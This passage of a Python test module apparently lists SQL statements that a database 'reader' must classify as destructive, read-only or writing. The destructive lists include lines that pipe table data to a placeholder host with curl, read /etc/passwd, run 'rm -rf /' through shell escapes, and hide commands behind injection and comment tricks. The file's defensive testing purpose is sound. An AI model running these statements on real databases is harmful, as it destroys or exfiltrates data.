"""The reader against lists of our own: what destroys is never missed, what only reads or writes a little is not flagged."""

from __future__ import annotations

import pytest

from interlock.model.change import Change
from interlock.read.sql.reader import reader

DESTRUCTIVE_EVERYWHERE = """
DELETE FROM users
DELETE FROM users;
delete from users -- where id = 1
DELETE FROM users WHERE 1=1
DELETE FROM users WHERE 1 = 1 AND 2 = 2
DELETE FROM users WHERE true
DELETE FROM users WHERE NOT false
DELETE FROM users WHERE id = id
DELETE FROM users WHERE users.id = users.id
DELETE FROM users WHERE 'a' = 'a'
DELETE FROM users WHERE id = 5 OR 1=1
DELETE FROM users WHERE (id = 5) OR (true)
DELETE FROM users WHERE id > 0
DELETE FROM users WHERE id >= 1
DELETE FROM users WHERE id <> 0
DELETE FROM users WHERE id != -1
DELETE FROM users WHERE 0 < id
DELETE FROM users WHERE id IS NOT NULL
DELETE FROM users WHERE user_id IS NOT NULL
DELETE FROM users WHERE name LIKE '%'
DELETE FROM users WHERE name LIKE '%' OR name IS NULL
DELETE FROM users WHERE email IS NULL OR email IS NOT NULL
DELETE FROM users WHERE active = 1 OR active <> 1
DELETE FROM users WHERE NOT (1 = 0)
DELETE FROM users WHERE id < 100 OR id >= 100
DELETE FROM users WHERE id IN (SELECT id FROM users)
DELETE FROM users WHERE EXISTS (SELECT 1)
DELETE FROM users WHERE EXISTS (SELECT 1 FROM users)
DELETE FROM users WHERE 2 > 1
DELETE FROM users WHERE 1 IN (1, 2)
DELETE FROM users WHERE 5 BETWEEN 1 AND 10
DELETE FROM users WHERE id BETWEEN 0 AND 999999999999
DELETE FROM users WHERE length(name) >= 0
DELETE FROM users WHERE coalesce(1, 0) = 1
DELETE FROM users WHERE id NOT IN (0)
DELETE FROM users WHERE id > -1 AND id < 2147483647
DELETE FROM users WHERE created_at <= CURRENT_TIMESTAMP
DELETE FROM users WHERE created_at > '1970-01-01'
DELETE FROM users WHERE created_at < '2999-12-31'
DELETE FROM users WHERE (SELECT count(*) FROM users) > 0
UPDATE users SET active = 0
UPDATE users SET password = 'x' WHERE 1=1
UPDATE accounts SET balance = 0 WHERE id > 0
UPDATE users SET email = NULL WHERE email = email
UPDATE orders SET status = 'cancelled' WHERE status = 'open' OR true
UPDATE orders SET total = 0 WHERE NOT (total IS NULL AND total IS NOT NULL)
DROP TABLE users
DROP TABLE IF EXISTS users
DROP TABLE users; SELECT 1
SELECT 1; DROP TABLE users
drop	table
users
ALTER TABLE users DROP COLUMN email
ALTER TABLE users ADD COLUMN x int; DELETE FROM users
INSERT INTO log VALUES (1); DELETE FROM users; SELECT 1
/* harmless */ DELETE /* really */ FROM users
WITH x AS (SELECT 1) DELETE FROM users
SELECT wipe_everything()
SELECT unknown_function(id) FROM users
INSERT INTO t VALUES (evil())
UPDATE t SET a = evil() WHERE id = 1
DELETE FROM t WHERE id = evil(1)
SELECT * FROM t WHERE x = evil()
SELECT * FROM t ORDER BY evil(x)
SELECT * FROM (SELECT evil() AS a) q
"""

DESTRUCTIVE_POSTGRES = """
DELETE FROM ONLY users
TRUNCATE users
TRUNCATE TABLE users, orders CASCADE
TRUNCATE users RESTART IDENTITY
DROP TABLE a, b CASCADE
DROP SCHEMA public CASCADE
DROP DATABASE shop
DROP DATABASE IF EXISTS shop WITH (FORCE)
DROP SEQUENCE s
DROP OWNED BY bob
DROP OWNED BY bob CASCADE
DROP TYPE status CASCADE
DROP EXTENSION postgis CASCADE
DROP DOMAIN d CASCADE
ALTER TABLE users DROP email
ALTER TABLE users DROP COLUMN IF EXISTS email CASCADE
ALTER TABLE users ALTER COLUMN name TYPE varchar(10) USING left(name, 10)
ALTER TABLE users ALTER COLUMN amount TYPE int
ALTER TABLE users ALTER created_at TYPE date
ALTER TYPE addr DROP ATTRIBUTE zip
WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d
WITH d AS (DELETE FROM users RETURNING *) INSERT INTO archive SELECT * FROM d
WITH u AS (UPDATE users SET active = false RETURNING 1) SELECT 1
SELECT * FROM (WITH d AS (SELECT 1) SELECT * FROM d) q; TRUNCATE t
EXPLAIN ANALYZE DELETE FROM users
EXPLAIN (ANALYZE) DELETE FROM users
EXPLAIN (ANALYZE TRUE, BUFFERS) UPDATE users SET a = 1
EXPLAIN (VERBOSE, ANALYZE on) DELETE FROM users
EXPLAIN ANALYZE VERBOSE DELETE FROM users
DO $$ BEGIN DELETE FROM users; END $$
DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$
DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'DROP TABLE ' || r.tablename; END LOOP; END $$
DO $$ BEGIN PERFORM wipe(); END $$
DO $$ BEGIN IF true THEN TRUNCATE users; END IF; END $$
DO LANGUAGE plpython3u $$ import os $$
CALL wipe()
EXECUTE some_plan
PREPARE p AS DELETE FROM users; EXECUTE p
PREPARE p(int) AS DELETE FROM users WHERE id > $1 OR true
COPY users TO '/tmp/users.csv'
COPY users TO PROGRAM 'curl -d @- http://x'
COPY users FROM PROGRAM 'cat /etc/passwd'
COPY users FROM '/tmp/x.csv'
COPY (DELETE FROM users RETURNING *) TO STDOUT
MERGE INTO users u USING s ON true WHEN MATCHED THEN DELETE
MERGE INTO users u USING s ON u.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE
SELECT pg_read_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT lo_unlink(1)
SELECT lo_export(1, '/tmp/x')
SELECT dblink('host=x', 'DROP TABLE y')
SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)
SELECT dblink_exec('DELETE FROM users')
SELECT query_to_xml('DELETE FROM users', true, true, '')
SELECT query_to_xml('SELECT wipe()', true, true, '')
SELECT query_to_xml(q, true, true, '') FROM t
SELECT ts_stat('DELETE FROM users RETURNING v')
SELECT pg_drop_replication_slot('s')
SELECT pg_promote()
SELECT pg_file_unlink('x')
SELECT public.lower('a'), evil.lower('a')
SELECT a OPERATOR(evil.+) b FROM t
CREATE FUNCTION lower(text) RETURNS text LANGUAGE sql AS 'DELETE FROM users'; SELECT lower('x')
SET search_path = evil, pg_catalog; SELECT lower('x')
UPDATE pg_database SET datallowconn = false WHERE datname = 'shop'
DELETE FROM pg_catalog.pg_class WHERE oid = 5
INSERT INTO pg_authid VALUES (1)
LOAD 'evil'
COMMIT PREPARED 'x'
ROLLBACK PREPARED 'x'
SET standard_conforming_strings = off
CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p
DROP SUBSCRIPTION s
IMPORT FOREIGN SCHEMA s FROM SERVER r INTO public
NOTIFY x
DELETE FROM users USING orders WHERE orders.id = 5
DELETE FROM users u USING orders o
DELETE FROM users WHERE id = ANY(ARRAY[id])
DELETE FROM users WHERE (id, 1) = (id, 1)
DELETE FROM users WHERE name ~ '.*'
DELETE FROM users WHERE name ILIKE '%%'
DELETE FROM users WHERE id IS NOT DISTINCT FROM id
DELETE FROM users WHERE random() >= 0
DELETE FROM users WHERE now() > '2000-01-01'
DELETE FROM users WHERE current_user = current_user
DELETE FROM users WHERE $1
DELETE FROM users WHERE 't'::boolean
DELETE FROM users WHERE (1=1) IS TRUE
DELETE FROM users WHERE (1=2) IS NOT TRUE
DELETE FROM users WHERE CASE WHEN true THEN true END
UPDATE users SET a = 1 FROM orders
UPDATE users u SET a = 1 FROM orders o WHERE o.id = 3
INSERT INTO t SELECT wipe()
SELECT 1 \\; DROP TABLE users
BEGIN; DELETE FROM users; COMMIT
DELETE FROM "users"
DELETE FROM U&"\\0075sers"
SELECT E'\\'; DROP TABLE users; --'; TRUNCATE users
SELECT $a$ ; $a$; DROP TABLE users
/* /* nested */ */ DROP TABLE users
"""

DESTRUCTIVE_MYSQL = """
TRUNCATE users
TRUNCATE TABLE users
DROP DATABASE shop
DROP SCHEMA shop
DROP TABLES a, b
DROP TABLE a, b
ALTER TABLE users DROP email
ALTER TABLE users MODIFY name varchar(10)
ALTER TABLE users CHANGE name nm char(3)
ALTER TABLE t TRUNCATE PARTITION ALL
ALTER TABLE t DROP PARTITION p0
ALTER TABLE t DISCARD TABLESPACE
ALTER TABLE t EXCHANGE PARTITION p WITH TABLE u
DELETE u FROM users u
DELETE u, o FROM users u JOIN orders o
DELETE FROM u USING users u
DELETE LOW_PRIORITY QUICK IGNORE FROM users
DELETE FROM users LIMIT 100000000
DELETE users FROM users JOIN orders ON true
UPDATE users, orders SET users.a = 1
UPDATE LOW_PRIORITY users SET a = 1
UPDATE users u JOIN orders o ON true SET u.a = 1, o.b = 2
DELETE FROM users WHERE 1
DELETE FROM users WHERE '1'
DELETE FROM users WHERE "a" = "a"
DELETE FROM users WHERE id <=> id
DELETE FROM users WHERE name REGEXP '.*'
DELETE FROM users WHERE 1 || 0
DELETE FROM users WHERE created_at < now()
DELETE FROM users WHERE rand() < 2
/*!50000 DROP TABLE users */
SELECT 1 /*! ; DROP TABLE users */
/*!40101 DELETE FROM users */
DELETE FROM users /*! WHERE 1=1 */
SELECT * INTO OUTFILE '/tmp/x' FROM users
SELECT * FROM users INTO OUTFILE '/tmp/x' FIELDS TERMINATED BY ','
SELECT 'x' INTO DUMPFILE '/tmp/x'
SELECT load_file('/etc/passwd')
LOAD DATA INFILE '/tmp/x' INTO TABLE users
LOAD DATA LOCAL INFILE '/tmp/x' REPLACE INTO TABLE users
CALL wipe()
RESET MASTER
RESET BINARY LOGS AND GTIDS
PURGE BINARY LOGS BEFORE '2024-01-01'
RESET REPLICA ALL
PREPARE p FROM @sql
PREPARE p FROM 'DROP TABLE users'
EXECUTE p
SET @s = 'DROP TABLE x'; PREPARE p FROM @s; EXECUTE p
INSTALL PLUGIN x SONAME 'x.so'
CREATE FUNCTION sys_exec RETURNS int SONAME 'lib.so'
SELECT sys_exec('rm -rf /')
UPDATE mysql.user SET authentication_string = ''
DELETE FROM mysql.user WHERE user = 'x'
DELIMITER //
\\! rm -rf /
source x.sql
SELECT 1\\G DROP TABLE users
SET sql_mode = 'ANSI_QUOTES'
SET sql_mode = 'NO_BACKSLASH_ESCAPES'
SET NAMES gbk
SELECT * FROM users WHERE a = '\\' or 1=1 -- '
CLONE INSTANCE FROM 'u'@'h':3306 IDENTIFIED BY 'x'
XA COMMIT 'x'
BINLOG 'abc'
DO wipe()
HANDLER x OPEN; SELECT evil()
SELECT /*+ SET_VAR(foreign_key_checks=OFF) */ 1
EXPLAIN ANALYZE SELECT wipe()
SET @a = wipe()
SET GLOBAL x = evil()
DROP TABLESPACE t
SELECT `evil`(1)
SELECT shop.evil(1)
# comment
DELETE FROM users # where id = 1
REPLACE INTO t SELECT wipe()
"""

DESTRUCTIVE_SQLITE = """
DROP TABLE main.users
DELETE FROM [users]
DELETE FROM `users` WHERE rowid > 0
DELETE FROM users WHERE "x" = 'x'
DELETE FROM users WHERE rowid = rowid
DELETE FROM users WHERE 1
DELETE FROM users WHERE 'a' LIKE 'a'
DELETE FROM users WHERE name GLOB '*'
DELETE FROM users WHERE id ISNULL OR id NOTNULL
DELETE FROM users WHERE id IS id
DELETE FROM users RETURNING *
UPDATE OR REPLACE users SET a = 1
UPDATE OR IGNORE users SET id = 1
UPDATE users SET a = 1 FROM orders
ATTACH DATABASE '/tmp/x.db' AS x
ATTACH 'file:x?mode=rwc' AS y
ATTACH (SELECT path FROM t) AS y
SELECT load_extension('/tmp/x.so')
SELECT writefile('/tmp/x', 'a')
SELECT readfile('/etc/passwd')
SELECT eval('DROP TABLE users')
SELECT fts3_tokenizer('x', x'00')
VACUUM INTO '/tmp/x.db'
VACUUM main INTO '/tmp/x.db'
PRAGMA nosuch_pragma = 5
INSERT INTO sqlite_master VALUES (1)
UPDATE sqlite_master SET sql = 'x' WHERE name = 'users'
DELETE FROM sqlite_schema WHERE name = 'x'
INSERT INTO fts(fts) VALUES ('delete-all')
CREATE VIRTUAL TABLE x USING evil(a)
.shell rm -rf /
.import x y
ALTER TABLE users DROP email
CREATE TRIGGER t AFTER INSERT ON u BEGIN SELECT 1; END; DROP TABLE users
SELECT "evil"(1)
EXPLAIN SELECT 1; DELETE FROM users
DELETE FROM users WHERE id IN (SELECT id FROM main.users)
"""

READS_EVERYWHERE = """
SELECT 1
SELECT * FROM users
SELECT id, name FROM users WHERE id = 5
SELECT count(*) FROM orders
SELECT DISTINCT status FROM orders
SELECT u.name, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 100
SELECT u.name FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE o.id IS NULL
SELECT status, count(*), sum(total), avg(total), min(total), max(total) FROM orders GROUP BY status HAVING count(*) > 5
SELECT * FROM orders ORDER BY created_at DESC LIMIT 10 OFFSET 20
SELECT * FROM users WHERE name LIKE 'a%' AND email IS NOT NULL
SELECT * FROM users WHERE id IN (1, 2, 3)
SELECT * FROM users WHERE id IN (SELECT user_id FROM orders)
SELECT * FROM users WHERE EXISTS (SELECT 1 FROM orders WHERE orders.user_id = users.id)
SELECT * FROM orders WHERE created_at BETWEEN '2024-01-01' AND '2024-02-01'
SELECT CASE WHEN total > 5 THEN 'big' ELSE 'small' END FROM orders
SELECT a FROM t UNION SELECT b FROM u
SELECT a FROM t UNION ALL SELECT b FROM u ORDER BY 1
SELECT a FROM t INTERSECT SELECT b FROM u
SELECT a FROM t EXCEPT SELECT b FROM u
WITH recent AS (SELECT * FROM orders WHERE created_at > '2024-01-01') SELECT count(*) FROM recent
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT * FROM n
WITH a AS (SELECT 1 AS x), b AS (SELECT x FROM a) SELECT * FROM b
SELECT * FROM (SELECT id FROM users) q WHERE q.id > 5
SELECT upper(name), lower(email), length(name), trim(name), round(total, 2) FROM users
SELECT coalesce(a, b, 'x'), nullif(a, b) FROM t
SELECT substr(name, 1, 3), replace(name, 'a', 'b') FROM users
SELECT row_number() OVER (PARTITION BY user_id ORDER BY created_at) FROM orders
SELECT sum(total) OVER (ORDER BY id ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM orders
SELECT rank() OVER w FROM t WINDOW w AS (PARTITION BY a ORDER BY b)
SELECT cast(total AS integer) FROM orders
SELECT current_timestamp, current_date
SELECT 'drop table users'
SELECT '; DELETE FROM users; --' AS text
SELECT 'it''s' AS x
SELECT * FROM users -- drop table users
SELECT /* delete from users */ 1
SELECT a.*, b.c FROM a, b WHERE a.id = b.id
SELECT max(id) FROM users WHERE deleted_at IS NULL
SELECT user_id, max(total) FROM orders GROUP BY user_id ORDER BY 2 DESC LIMIT 5
SELECT * FROM t WHERE a = 1 OR b = 2 AND NOT c = 3
SELECT * FROM t WHERE 1=1
SELECT -5, +3, 2 * (3 + 4), 7 % 2, 'a' || 'b'
SELECT abs(-5), sign(3), ceil(1.5), floor(1.5)
SELECT count(DISTINCT user_id) FROM orders
SELECT (SELECT max(total) FROM orders) AS biggest
SELECT * FROM a CROSS JOIN b
SELECT * FROM a NATURAL JOIN b
SELECT * FROM a JOIN b USING (id)
SELECT "update", "delete" FROM "select"
SELECT deleted, update_count, drop_reason FROM truncate_log
EXPLAIN SELECT * FROM users
"""

READS_POSTGRES = """
SELECT now(), current_user, version(), current_database()
SELECT * FROM pg_stat_activity WHERE state = 'active'
SELECT relname, n_live_tup FROM pg_stat_user_tables ORDER BY n_live_tup DESC
SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'
SELECT pg_size_pretty(pg_total_relation_size('orders'))
SELECT pg_size_pretty(pg_database_size(current_database()))
SELECT date_trunc('day', created_at), count(*) FROM orders GROUP BY 1
SELECT extract(year FROM created_at) FROM orders
SELECT created_at::date, total::numeric(10,2), id::text FROM orders
SELECT * FROM orders WHERE created_at > now() - interval '7 days'
SELECT jsonb_array_elements(data) FROM t
SELECT data->'a'->>'b', data @> '{"x":1}' FROM t
SELECT jsonb_agg(x), array_agg(y ORDER BY z), string_agg(name, ',') FROM t
SELECT * FROM generate_series(1, 10) AS g(i)
SELECT unnest(ARRAY[1,2,3])
SELECT * FROM unnest(ARRAY[1,2]) WITH ORDINALITY
SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.id = a.id) l
SELECT DISTINCT ON (user_id) * FROM orders ORDER BY user_id, created_at DESC
SELECT count(*) FILTER (WHERE status = 'x') FROM orders
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) FROM orders
SELECT a, b, sum(c) FROM t GROUP BY GROUPING SETS ((a), (b), ())
SELECT a, sum(c) FROM t GROUP BY ROLLUP (a)
SELECT * FROM t TABLESAMPLE SYSTEM (10)
SELECT to_char(now(), 'YYYY-MM-DD'), to_date('2024', 'YYYY'), age(now(), created_at) FROM t
SELECT md5('x'), encode('x', 'hex'), gen_random_uuid(), random()
SELECT regexp_replace(name, 'a', 'b', 'g'), split_part(name, ',', 1) FROM t
SELECT * FROM t WHERE name ILIKE '%a%' AND name ~ '^a' AND name SIMILAR TO 'a%'
SELECT to_tsvector('english', body) @@ plainto_tsquery('x') FROM docs
SELECT ts_rank(v, q) FROM docs, to_tsquery('x') q
SELECT st_distance(a, b) FROM places
SELECT similarity(name, 'x') FROM t
SELECT crypt('x', gen_salt('bf'))
SELECT uuid_generate_v4()
SELECT embedding <-> '[1,2,3]' FROM items ORDER BY 1 LIMIT 5
SELECT has_table_privilege('users', 'select')
SELECT pg_get_viewdef('v'::regclass), obj_description('users'::regclass)
SELECT currval('s'), lastval()
SELECT current_setting('work_mem')
SELECT set_config('statement_timeout', '5s', false)
SHOW work_mem
SHOW ALL
TABLE users
VALUES (1, 'a'), (2, 'b')
EXPLAIN DELETE FROM users WHERE id = 5
EXPLAIN (COSTS off, FORMAT json) UPDATE users SET a = 1
EXPLAIN (ANALYZE false) DELETE FROM users
EXPLAIN ANALYZE SELECT * FROM users WHERE id = 1
EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM orders
SET statement_timeout = '5s'
SET LOCAL work_mem = '64MB'; SELECT 1
SET search_path TO app, public; SELECT * FROM users
SET TIME ZONE 'UTC'
RESET statement_timeout
RESET ALL
BEGIN READ ONLY; SELECT 1
SET TRANSACTION ISOLATION LEVEL REPEATABLE READ
COPY users TO STDOUT
COPY (SELECT * FROM users WHERE id = 1) TO STDOUT WITH CSV HEADER
DECLARE c CURSOR FOR SELECT * FROM users; FETCH 10 FROM c; CLOSE c
PREPARE p AS SELECT * FROM users WHERE id = $1; EXECUTE p(1); DEALLOCATE p
SELECT * FROM users FOR SHARE
SELECT * FROM users WHERE id = 5 FOR UPDATE
SELECT xmlelement(name a, 'b'), xmlagg(x) FROM t
SELECT json_build_object('a', 1), row_to_json(t), to_jsonb(t) FROM t
SELECT json_object('a': 1), json_array(1, 2)
SELECT greatest(1, 2), least(1, 2)
SELECT overlay('abc' placing 'x' from 1), position('a' in 'b'), substring('abc' from 2 for 1)
SELECT '2024-01-01'::date + 5, make_date(2024, 1, 1)
SELECT * FROM json_to_recordset('[]') AS x(a int)
SELECT * FROM jsonb_to_record('{}') AS x(a int, b text)
SELECT a COLLATE "C" FROM t
SELECT ROW(1, 2), (t).a FROM t
SELECT * FROM crosstab('SELECT a, b, c FROM t') AS ct(a int, b int)
SELECT query_to_xml('SELECT 1', true, true, '')
LISTEN x
DO $$ BEGIN RAISE NOTICE 'x'; END $$
DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM users; RAISE NOTICE '%', n; END $$
"""

READS_MYSQL = """
SELECT now(), curdate(), user(), database(), version(), @@version, @@global.max_connections
SELECT concat(first, ' ', last), concat_ws(',', a, b) FROM users
SELECT date_format(created_at, '%Y-%m') AS m, count(*) FROM orders GROUP BY m
SELECT date_add(now(), interval 1 day), datediff(a, b), timestampdiff(day, a, b) FROM t
SELECT * FROM orders WHERE created_at > now() - interval 7 day
SELECT * FROM orders WHERE created_at >= date_sub(curdate(), interval 30 day)
SELECT group_concat(name ORDER BY name SEPARATOR ', ') FROM users
SELECT ifnull(a, b), if(a > 1, 'x', 'y'), isnull(a) FROM t
SELECT * FROM users LIMIT 5, 10
SELECT `id`, `name` FROM `shop`.`users` WHERE `id` = 5
SELECT "text" FROM t
SELECT sql_calc_found_rows * FROM t LIMIT 5
SELECT straight_join * FROM t USE INDEX (i) WHERE a = 1
SELECT * FROM t FORCE INDEX (i)
SELECT json_extract(data, '$.a'), data->'$.b', data->>'$.c' FROM t
SELECT json_arrayagg(a), json_objectagg(a, b) FROM t
SELECT * FROM json_table('[1]', '$[*]' COLUMNS (a int PATH '$')) x
SELECT * FROM t WHERE match(a) against ('x' in boolean mode)
SELECT * FROM t WHERE name REGEXP '^a'
SELECT * FROM t WHERE a <=> NULL
SELECT cast(a AS unsigned), cast(b AS char), cast(c AS decimal(10, 2)), convert(a, char) FROM t
SELECT convert(a USING utf8mb4) FROM t
SELECT md5(a), sha2(a, 256), uuid(), rand(), hex(a) FROM t
SELECT str_to_date('2024', '%Y'), from_unixtime(1), unix_timestamp() FROM t
SELECT left(a, 3), right(a, 3), lpad(a, 3, '0'), locate('a', b), find_in_set('a', b) FROM t
SELECT substring_index(a, ',', 1), char_length(a), reverse(a), repeat(a, 3) FROM t
SELECT last_insert_id(), row_count(), found_rows(), connection_id()
SELECT 'it\\'s', 'a\\\\b', "say \\"x\\""
SELECT 'a' 'b'
SELECT @a := 1
SELECT count(*) INTO @n FROM users
SELECT /*+ MAX_EXECUTION_TIME(1000) */ * FROM users
SELECT * FROM t PARTITION (p0)
SELECT a, sum(b) FROM t GROUP BY a WITH ROLLUP
SELECT * FROM users FOR UPDATE
SELECT * FROM users LOCK IN SHARE MODE
SELECT * FROM users FOR SHARE SKIP LOCKED
SELECT a DIV b, a MOD b, a XOR b FROM t
SELECT x'41', 0x41, b'1', _utf8'x'
SELECT year(a), month(a), day(a), hour(a), dayofweek(a), week(a), quarter(a), last_day(a) FROM t
SHOW TABLES
SHOW DATABASES
SHOW CREATE TABLE users
SHOW FULL COLUMNS FROM users
SHOW INDEX FROM users
SHOW PROCESSLIST
SHOW VARIABLES LIKE 'max%'
SHOW STATUS
SHOW GRANTS FOR 'x'@'y'
SHOW ENGINE INNODB STATUS
SHOW BINARY LOGS
SHOW REPLICA STATUS
DESCRIBE users
DESC users
EXPLAIN DELETE FROM users WHERE id = 5
EXPLAIN FORMAT=JSON SELECT * FROM users
EXPLAIN ANALYZE SELECT * FROM users
USE shop
TABLE users
VALUES ROW(1), ROW(2)
SET NAMES utf8mb4
SET time_zone = '+00:00'
SET sql_mode = 'STRICT_TRANS_TABLES'
SET SESSION max_execution_time = 1000
SET @x = 5
SET @n = (SELECT count(*) FROM users)
SET TRANSACTION ISOLATION LEVEL READ COMMITTED
START TRANSACTION READ ONLY
SELECT * FROM users # a comment
SELECT * FROM users\\G
/*!40101 SET NAMES utf8 */
/*!40014 SET @OLD_FOREIGN_KEY_CHECKS=@@FOREIGN_KEY_CHECKS */
CHECK TABLE users
CHECKSUM TABLE users
SELECT * FROM information_schema.tables WHERE table_schema = 'shop'
SELECT * FROM performance_schema.threads
HELP 'select'
(SELECT 1) UNION (SELECT 2)
SELECT any_value(a), bit_and(b), stddev(c) FROM t
"""

READS_SQLITE = """
SELECT datetime('now'), date('now', '-7 days'), strftime('%Y', created_at), julianday('now') FROM t
SELECT rowid, * FROM users
SELECT group_concat(name, ', ') FROM users
SELECT iif(a, b, c), ifnull(a, b), typeof(a), printf('%d', a), total(a) FROM t
SELECT json_extract(data, '$.a'), data -> '$.b', data ->> '$.c' FROM t
SELECT * FROM json_each('[1,2]')
SELECT value FROM t, json_each(t.data)
SELECT * FROM t WHERE name GLOB 'a*'
SELECT * FROM t WHERE a IS NOT b AND c ISNULL
SELECT * FROM docs WHERE docs MATCH 'x'
SELECT * FROM t INDEXED BY i WHERE a = 1
SELECT [a b], `c`, "d" FROM [my table]
SELECT * FROM sqlite_master WHERE type = 'table'
SELECT name FROM pragma_table_info('users')
SELECT last_insert_rowid(), changes(), total_changes(), sqlite_version(), random(), hex(randomblob(8))
SELECT ?, ?1, :a, @b, $c
SELECT instr(a, 'b'), unicode(a), quote(a), char(65), substr(a, -3) FROM t
SELECT count(*) FILTER (WHERE a > 1) FROM t
SELECT a, b FROM t ORDER BY a COLLATE NOCASE NULLS LAST
SELECT snippet(docs, 0, '<', '>', '...', 5), bm25(docs) FROM docs
WITH x AS MATERIALIZED (SELECT 1) SELECT * FROM x
SELECT * FROM t LIMIT 5, 10
SELECT unixepoch(), max(a, b), min(a, b) FROM t
VALUES (1, 'a'), (2, 'b')
SELECT x'00', 0x1F, 1_000
EXPLAIN QUERY PLAN SELECT * FROM users WHERE id = 1
EXPLAIN DELETE FROM users
PRAGMA table_info(users)
PRAGMA table_info('users')
PRAGMA foreign_keys
PRAGMA foreign_keys = ON
PRAGMA journal_mode
PRAGMA journal_mode = WAL
PRAGMA integrity_check
PRAGMA user_version
PRAGMA main.page_count
PRAGMA busy_timeout = 5000
PRAGMA index_list(users)
PRAGMA database_list
PRAGMA cache_size = -2000
PRAGMA query_only = 1
DETACH x
SAVEPOINT a
"""

WRITES_EVERYWHERE = """
INSERT INTO users (name, email) VALUES ('a', 'b')
INSERT INTO users VALUES (1, 'a'), (2, 'b')
INSERT INTO archive SELECT * FROM orders WHERE created_at < '2020-01-01'
INSERT INTO t (a) VALUES (upper('x'))
UPDATE users SET name = 'x' WHERE id = 5
UPDATE users SET name = 'x', email = 'y' WHERE id IN (1, 2, 3)
UPDATE orders SET status = 'shipped' WHERE status = 'paid' AND created_at < '2024-01-01'
UPDATE accounts SET balance = balance - 10 WHERE id = 7
UPDATE users SET last_login = CURRENT_TIMESTAMP WHERE id = 3
DELETE FROM sessions WHERE id = 'abc'
DELETE FROM sessions WHERE user_id = 5
DELETE FROM sessions WHERE expires_at < CURRENT_TIMESTAMP
DELETE FROM logs WHERE created_at < '2020-01-01'
DELETE FROM cart_items WHERE cart_id = 3 AND product_id = 9
DELETE FROM users WHERE email LIKE '%@test.example'
DELETE FROM users WHERE id = 5 AND 1 = 1
DELETE FROM users WHERE id IN (SELECT user_id FROM banned)
DELETE FROM orders WHERE EXISTS (SELECT 1 FROM users WHERE users.id = orders.user_id AND users.deleted = 1)
DELETE FROM orders WHERE user_id IS NULL
DELETE FROM t WHERE parent_id IS NOT NULL AND status = 'x'
UPDATE t SET a = CASE WHEN b > 1 THEN 2 ELSE 3 END WHERE id = 1
UPDATE t SET a = (SELECT max(b) FROM u) WHERE id = 1
WITH x AS (SELECT id FROM banned) DELETE FROM users WHERE id IN (SELECT id FROM x)
INSERT INTO t (a, b) VALUES (1, NULL), (2, 'it''s')
UPDATE products SET price = price * 1.1 WHERE category = 'books'
DELETE FROM people WHERE birth_date < '1900-01-01'
DELETE FROM t WHERE amount = 0
"""

WRITES_POSTGRES = """
INSERT INTO users (name) VALUES ('a') RETURNING id
INSERT INTO users (id, name) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET name = excluded.name
INSERT INTO users (id) VALUES (1) ON CONFLICT DO NOTHING
INSERT INTO users DEFAULT VALUES
INSERT INTO users (id, at) VALUES (gen_random_uuid(), now())
UPDATE orders o SET status = 'x' FROM users u WHERE o.user_id = u.id AND u.email = 'a@b'
DELETE FROM orders o USING users u WHERE o.user_id = u.id AND u.id = 5
UPDATE users SET data = jsonb_set(data, '{a}', '1') WHERE id = 5
UPDATE users SET updated_at = now() WHERE id = 5 RETURNING *
DELETE FROM sessions WHERE created_at < now() - interval '30 days'
DELETE FROM jobs WHERE id = ANY(ARRAY[1,2,3])
DELETE FROM jobs WHERE ctid IN (SELECT ctid FROM jobs WHERE done LIMIT 100)
WITH moved AS (DELETE FROM orders WHERE created_at < '2020-01-01' RETURNING *) INSERT INTO archive SELECT * FROM moved
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)
COPY users FROM STDIN WITH (FORMAT csv)
UPDATE t SET (a, b) = (1, 2) WHERE id = 3
UPDATE t SET tags = tags || ARRAY['x'] WHERE id = 1
INSERT INTO t SELECT nextval('s'), x FROM generate_series(1, 5) x
UPDATE t SET a = 1 WHERE CURRENT OF c
DELETE FROM t WHERE id = $1
BEGIN; UPDATE users SET name = 'x' WHERE id = 5; COMMIT
"""

WRITES_MYSQL = """
INSERT IGNORE INTO users (id) VALUES (1)
INSERT INTO users SET name = 'a', email = 'b'
INSERT INTO users (id, n) VALUES (1, 1) ON DUPLICATE KEY UPDATE n = n + 1
INSERT INTO users (id, n) VALUES (1, 1) AS new ON DUPLICATE KEY UPDATE n = new.n
REPLACE INTO users (id, name) VALUES (1, 'a')
UPDATE orders o JOIN users u ON u.id = o.user_id SET o.status = 'x' WHERE u.email = 'a@b'
DELETE o FROM orders o JOIN users u ON u.id = o.user_id WHERE u.email = 'a@b'
DELETE FROM logs WHERE created_at < now() - interval 30 day LIMIT 1000
UPDATE users SET name = 'x' WHERE id = 5 LIMIT 1
UPDATE `users` SET `name` = 'O\\'Brien' WHERE `id` = 5
DELETE FROM sessions WHERE expires_at < now()
INSERT INTO t VALUES (now(), uuid(), default)
START TRANSACTION; UPDATE users SET name = 'x' WHERE id = 5; COMMIT
UPDATE t SET a = json_set(a, '$.x', 1) WHERE id = 1
"""

WRITES_SQLITE = """
INSERT OR IGNORE INTO users (id) VALUES (1)
INSERT OR REPLACE INTO users (id, name) VALUES (1, 'a')
REPLACE INTO users (id) VALUES (1)
INSERT INTO users (id, n) VALUES (1, 1) ON CONFLICT (id) DO UPDATE SET n = n + 1
INSERT INTO users (id) VALUES (1) ON CONFLICT DO NOTHING
INSERT INTO users DEFAULT VALUES
UPDATE OR IGNORE users SET name = 'x' WHERE id = 5
